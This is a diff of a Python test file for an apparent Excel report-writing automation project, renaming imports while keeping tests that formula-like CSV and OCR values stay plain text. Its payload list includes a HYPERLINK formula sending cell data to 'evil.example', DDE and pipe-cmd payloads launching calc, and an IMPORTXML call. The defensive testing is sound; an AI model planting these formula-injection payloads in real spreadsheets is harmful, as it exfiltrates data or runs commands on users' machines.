@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from robots.errors import BusinessError
+from kyodo.core.errors import BusinessError
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
             '=IMPORTXML("http://evil.example","//a")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=",
@@ -22,8 +22,8 @@ def _assert_text(cell, value: str) -> None:
 
 
 def test_csv_formulas_reach_the_report_as_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
-    from robots.context import RunContext
-    from robots.excel.actions import read_csv, write_report
+    from kyodo.robots.context import RunContext
+    from kyodo.robots.excel.actions import read_csv, write_report
 
     lines = ["番号,内容,金額"] + [f'{i},"{v.replace(chr(34), chr(34) * 2)}",{i * 100}' for i, v in enumerate(FORMULAS + PLAIN, 1)]
     (tmp_path / "in").mkdir()
@@ -45,7 +45,7 @@ def test_csv_formulas_reach_the_report_as_text_and_numbers_stay_numbers(tmp_path
 def test_template_fill_keeps_formulas_as_text(tmp_path: Path) -> None:
     import pandas as pd
 
-    from robots.workbook.template import fill_table, open_template, save_atomic, set_cells
+    from kyodo.robots.workbook.template import fill_table, open_template, save_atomic, set_cells
 
     wb = Workbook()
     ws = wb.active
@@ -66,8 +66,8 @@ def test_template_fill_keeps_formulas_as_text(tmp_path: Path) -> None:
 
 
 def test_ocr_review_workbook_keeps_formulas_as_text(tmp_path: Path) -> None:
-    from robots.ocr.reader import Batch
-    from robots.ocr.review import write_review_workbook
+    from kyodo.robots.ocr.reader import Batch
+    from kyodo.robots.ocr.review import write_review_workbook
 
     batch = Batch(rejected=[{"ファイル": "=HYPERLINK(\"http://x\")", "理由": "@SUM(1)"}])
     out = write_review_workbook(batch, [], tmp_path / "review.xlsx")
@@ -84,7 +84,7 @@ def test_excel_limits_are_checked_before_writing(tmp_path: Path, shape: tuple[in
     import numpy as np
     import pandas as pd
 
-    from robots.excel.report import Sheet, write_workbook
+    from kyodo.robots.excel.report import Sheet, write_workbook
 
     rows, cols = shape
     df = pd.DataFrame(np.zeros((rows, cols), dtype=np.int8))
@@ -99,7 +99,7 @@ def test_excel_limits_are_checked_before_writing(tmp_path: Path, shape: tuple[in
 def test_a_cell_excel_cannot_hold_is_refused_with_its_place_not_cut(tmp_path: Path, value: str, match: str) -> None:
     import pandas as pd
 
-    from robots.excel.report import Sheet, write_workbook
+    from kyodo.robots.excel.report import Sheet, write_workbook
 
     df = pd.DataFrame({"id": [1, 2], "本文": ["短い", value]})
     with pytest.raises(BusinessError, match=match) as info:
@@ -112,7 +112,7 @@ def test_a_cell_excel_cannot_hold_is_refused_with_its_place_not_cut(tmp_path: Pa
 def test_template_fill_past_the_last_column_is_refused(tmp_path: Path) -> None:
     import pandas as pd
 
-    from robots.workbook.template import fill_table
+    from kyodo.robots.workbook.template import fill_table
 
     ws = Workbook().active
     with pytest.raises(BusinessError, match="16,384 列"):
